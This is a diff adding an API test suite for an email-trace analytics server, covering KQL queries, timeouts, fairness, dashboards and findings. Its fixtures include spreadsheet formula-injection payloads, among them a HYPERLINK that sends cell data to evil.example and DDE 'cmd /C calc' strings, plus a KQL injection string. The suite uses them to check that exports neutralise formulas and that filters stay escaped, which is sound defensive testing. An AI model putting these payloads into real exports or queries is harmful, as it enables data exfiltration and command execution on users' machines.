@@ -1,0 +1,200 @@
+// API scenarios on a real server and DuckDB store: KQL errors, row cap, time-out, fairness, exports, dashboards, findings.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { serverFixture, traceRow, type Browser, type ServerFixture } from './server-fixture.js';
+
+const EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', 'plain, "quoted"\nsubject'];
+
+/** Cells of an RFC 4180 document. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') row.push(cell), (cell = '');
+    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
+    else cell += c;
+  }
+  return rows;
+}
+
+describe('queries, exports and dashboards over the API', () => {
+  let f: ServerFixture;
+  let analyst: Browser;
+  beforeAll(async () => {
+    const rows = Array.from({ length: 12 }, (_, i) => traceRow(i, { Status: i % 4 === 0 ? 'Failed' : 'Delivered' }));
+    rows.push(...EVIL.map((Subject, i) => traceRow(100 + i, { Subject, SenderAddress: i === 0 ? '=cmd@evil.example' : 'x@evil.example', SenderDomain: 'evil.example', Status: 'Quarantined' })));
+    f = await serverFixture({ rows, server: { queryRowLimit: 10 } });
+    analyst = await f.login('analyst');
+  });
+  afterAll(() => f.close());
+
+  it('runs KQL with a time range and returns typed columns and stats', async () => {
+    const res = await f.as(analyst, 'POST', '/api/query', { query: 'MessageTrace | summarize n = count() by Status | sort by Status asc', from: '2026-11-01T09:00:00Z', to: '2026-11-01T09:05:00Z' });
+    expect(res.statusCode).toBe(200);
+    const body = res.json();
+    expect(body.columns).toEqual([{ name: 'Status', type: 'string' }, { name: 'n', type: 'long' }]);
+    expect(body.rows).toEqual([['Delivered', 3], ['Failed', 2]]);
+    expect(body.stats).toMatchObject({ rows: 2, truncated: false });
+    expect(typeof body.stats.elapsedMs).toBe('number');
+  });
+
+  it('answers a KQL mistake with 400 and its line and column', async () => {
+    const res = await f.as(analyst, 'POST', '/api/query', { query: 'MessageTrace\n| where NoSuchColumn == 1' });
+    expect(res.statusCode).toBe(400);
+    expect(res.json().error).toMatchObject({ code: 'KQL', kqlCode: 'unknown-column', line: 2, column: 9 });
+    expect(res.json().error.message).toMatch(/^line 2, column 9: /);
+    const syntax = await f.as(analyst, 'POST', '/api/query', { query: 'MessageTrace | where' });
+    expect(syntax.json().error).toMatchObject({ code: 'KQL', kqlCode: 'syntax', line: 1 });
+    const bad = await f.as(analyst, 'POST', '/api/query', { query: 'MessageTrace', from: 'yesterday-ish' });
+    expect(bad.statusCode).toBe(400);
+    expect(bad.json().error.message).toContain('from must be an ISO 8601 time');
+  });
+
+  it('caps rows at server.queryRowLimit and says so', async () => {
+    const res = await f.as(analyst, 'POST', '/api/query', { query: 'MessageTrace | sort by Received asc' });
+    const body = res.json();
+    expect(body.rows).toHaveLength(10);
+    expect(body.stats).toMatchObject({ rows: 10, truncated: true, rowLimit: 10 });
+    expect(body.message).toContain('first 10 rows');
+    const small = (await f.as(analyst, 'POST', '/api/query', { query: 'MessageTrace | take 3' })).json();
+    expect(small.stats.truncated).toBe(false);
+  });
+
+  it('exports CSV that spreadsheets cannot run as formulas, and JSON', async () => {
+    const res = await f.as(analyst, 'GET', `/api/export?format=csv&query=${encodeURIComponent('MessageTrace | where Status == "Quarantined" | project SenderAddress, Subject, Size | sort by Size asc')}`);
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['content-type']).toContain('text/csv');
+    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="mailsift-export-.*\.csv"$/);
+    expect(res.body.startsWith('\ufeff')).toBe(true);
+    const cells = parseCsv(res.body.slice(1));
+    expect(cells[0]).toEqual(['SenderAddress', 'Subject', 'Size']);
+    const data = cells.slice(1);
+    expect(data.map((r) => r[1])).toEqual(EVIL.slice(0, 7).map((s) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s)));
+    expect(data[0]![0]).toBe("'=cmd@evil.example");
+    for (const row of data) for (const cell of row.slice(0, 2)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Numbers stay numbers.
+    expect(data[0]![2]).toBe('1100');
+
+    const json = await f.as(analyst, 'GET', `/api/export?format=json&query=${encodeURIComponent('MessageTrace | where Status == "Quarantined" | project Subject | take 2')}`);
+    expect(json.headers['content-type']).toContain('application/json');
+    expect(json.json()).toHaveLength(2);
+  });
+
+  it('runs every panel of every dashboard for a viewer, filters applied', async () => {
+    const viewer = await f.login('viewer');
+    const dashboards = (await f.as(viewer, 'GET', '/api/dashboards')).json() as { id: string }[];
+    expect(dashboards.map((d) => d.id)).toEqual(['overview', 'message-monitoring', 'security', 'threat-intel']);
+    for (const { id } of dashboards) {
+      const d = (await f.as(viewer, 'GET', `/api/dashboards/${id}`)).json() as { panels: { id: string }[] };
+      for (const p of d.panels) {
+        const res = await f.as(viewer, 'POST', `/api/dashboards/${id}/panels/${p.id}/run`, { from: '2026-10-01T00:00:00Z', to: '2026-11-02T00:00:00Z', filters: { sender: ['sender1@contoso.com'] }, tzOffsetMinutes: 540 });
+        expect(res.statusCode, `${id}/${p.id}: ${res.body}`).toBe(200);
+      }
+    }
+    const pivot = (await f.as(viewer, 'POST', '/api/dashboards/overview/panels/top-senders-status/run', { filters: { sender: ['sender1@contoso.com'] } })).json();
+    expect(pivot.kql).toContain('where SenderAddress == "sender1@contoso.com"');
+    expect(pivot.result.rows).toHaveLength(1);
+    expect(pivot.result.rows[0][0]).toBe('sender1@contoso.com');
+    const stat = (await f.as(viewer, 'POST', '/api/dashboards/overview/panels/failed/run', { from: '2026-11-01T09:00:00Z', to: '2026-11-01T09:12:00Z' })).json();
+    expect(stat.result.rows).toEqual([[3]]);
+    expect(stat.previous).toBe(0);
+    expect(stat.sparkline.rows.length).toBeGreaterThan(0);
+    const csv = await f.as(viewer, 'GET', '/api/dashboards/overview/panels/top-senders-status/export?status=Quarantined');
+    expect(csv.statusCode).toBe(200);
+    expect(csv.body).toContain("'=cmd@evil.example");
+    expect((await f.as(viewer, 'POST', '/api/dashboards/overview/panels/nope/run', {})).statusCode).toBe(404);
+  });
+
+  it('keeps filter values inside their string literal', async () => {
+    const viewer = await f.login('viewer');
+    const nasty = 'x" or 1 == 1 or SenderAddress == "';
+    const res = await f.as(viewer, 'POST', '/api/dashboards/overview/panels/delivered/run', { filters: { sender: [nasty, 'a\\"b\nc'] } });
+    expect(res.statusCode).toBe(200);
+    expect(res.json().result.rows).toEqual([[0]]);
+  });
+
+  it('counts subject words, Japanese included, against the previous period', async () => {
+    await f.store.upsertTraces([
+      traceRow(500, { Subject: '【重要】請求書のご確認', Received: Date.UTC(2026, 10, 5, 12) }),
+      traceRow(501, { Subject: 'RE: 請求書の再送', Received: Date.UTC(2026, 10, 5, 13) }),
+      traceRow(502, { Subject: '請求書', Received: Date.UTC(2026, 10, 4, 13) }),
+    ]);
+    const viewer = await f.login('viewer');
+    const res = (await f.as(viewer, 'POST', '/api/dashboards/overview/panels/subject-keywords/run', { from: '2026-11-05T00:00:00Z', to: '2026-11-06T00:00:00Z' })).json();
+    expect(res.terms[0]).toEqual({ term: '請求', count: 2, previous: 1 });
+    expect(res.terms.map((t: { term: string }) => t.term)).toContain('重要');
+    expect(res.terms.map((t: { term: string }) => t.term)).not.toContain('re');
+  });
+
+  it('lists findings and lets analysts change their state', async () => {
+    await f.store.execute(
+      `INSERT INTO "Findings" VALUES ('f1', 'status-spike', 'high', 'FilteredAsSpam 9.8x above its usual level', TIMESTAMP '2026-11-01 09:00:00', TIMESTAMP '2026-11-01 10:00:00', 42, '{"status":"FilteredAsSpam"}', 'MessageTrace | where Status == "FilteredAsSpam"', '{}', 'open', '', NULL)`,
+    );
+    const viewer = await f.login('viewer');
+    const list = (await f.as(viewer, 'GET', '/api/findings')).json();
+    expect(list.findings).toEqual([expect.objectContaining({ id: 'f1', rule: 'status-spike', severity: 'high', count: 42, state: 'open', entities: { status: 'FilteredAsSpam' } })]);
+    const patched = await f.as(analyst, 'PATCH', '/api/findings/f1', { state: 'acknowledged' });
+    expect(patched.statusCode).toBe(200);
+    expect(patched.json()).toMatchObject({ state: 'acknowledged', updatedBy: 'analyst' });
+    expect((await f.as(analyst, 'PATCH', '/api/findings/f1', { state: 'bogus' })).statusCode).toBe(400);
+    expect((await f.as(analyst, 'PATCH', '/api/findings/nope', { state: 'closed' })).statusCode).toBe(404);
+    expect((await f.as(viewer, 'GET', '/api/findings?state=open')).json().findings).toEqual([]);
+  });
+
+  it('lists threat-intel matches', async () => {
+    await f.store.replaceIndicators('soc', [{ Indicator: 'evil.example', Type: 'domain', Confidence: 90, Actor: 'TA-1', Labels: ['phishing'], Feed: 'soc', ValidFrom: null, ValidUntil: null }]);
+    const viewer = await f.login('viewer');
+    const res = (await f.as(viewer, 'GET', '/api/intel/matches')).json();
+    expect(res.matches).toEqual([expect.objectContaining({ entity: 'evil.example', type: 'senderDomain', actor: 'TA-1', messages: 7 })]);
+  });
+
+  it('serves the OpenAPI document from the route schemas', async () => {
+    const doc = (await f.as(analyst, 'GET', '/api/docs')).json();
+    expect(doc.openapi).toMatch(/^3\./);
+    for (const p of ['/api/query', '/api/export', '/api/dashboards/{id}', '/api/findings/{id}', '/api/intel/matches', '/api/auth/login']) expect(Object.keys(doc.paths)).toContain(p);
+  });
+});
+
+describe('query time-outs and fairness', () => {
+  // A self-join of 700 rows: ~half a second of DuckDB work, long past a 40 ms limit.
+  const HEAVY = 'MessageTrace | join kind=inner (MessageTrace | project Organization, S2 = Subject) on Organization | summarize n = dcount(strcat(Subject, S2))';
+
+  it('stops waiting at server.queryTimeoutMs with a clear message', async () => {
+    const f = await serverFixture({ rows: Array.from({ length: 700 }, (_, i) => traceRow(i)), server: { queryTimeoutMs: 40 } });
+    try {
+      const analyst = await f.login('analyst');
+      const res = await f.as(analyst, 'POST', '/api/query', { query: HEAVY });
+      expect(res.statusCode).toBe(504);
+      expect(res.json().error).toMatchObject({ code: 'QUERY_TIMEOUT' });
+      expect(res.json().error.message).toContain('server.queryTimeoutMs');
+    } finally {
+      // The engine finishes the abandoned statement before the store can close.
+      await new Promise((r) => setTimeout(r, 2_000));
+      await f.close();
+    }
+  });
+
+  it("lets other users' queries through while one user's heavy queries run", async () => {
+    const f = await serverFixture({ rows: Array.from({ length: 700 }, (_, i) => traceRow(i)), server: { queryConcurrency: 2, queryConcurrencyPerUser: 1 } });
+    try {
+      const [analyst, admin] = [await f.login('analyst'), await f.login('admin')];
+      const done: string[] = [];
+      const heavy = [1, 2].map((i) => f.as(analyst, 'POST', '/api/query', { query: HEAVY }).then((r) => done.push(`heavy${i}:${r.statusCode}`)));
+      await new Promise((r) => setTimeout(r, 20));
+      const light = f.as(admin, 'POST', '/api/query', { query: 'MessageTrace | count' }).then((r) => done.push(`light:${r.statusCode}`));
+      await Promise.all([...heavy, light]);
+      // Two slots: without the per-user cap both heavy queries would take them and the light one would wait.
+      expect(done[0]).toBe('light:200');
+      expect(done.slice(1).sort()).toEqual(['heavy1:200', 'heavy2:200']);
+    } finally {
+      await f.close();
+    }
+  });
+});
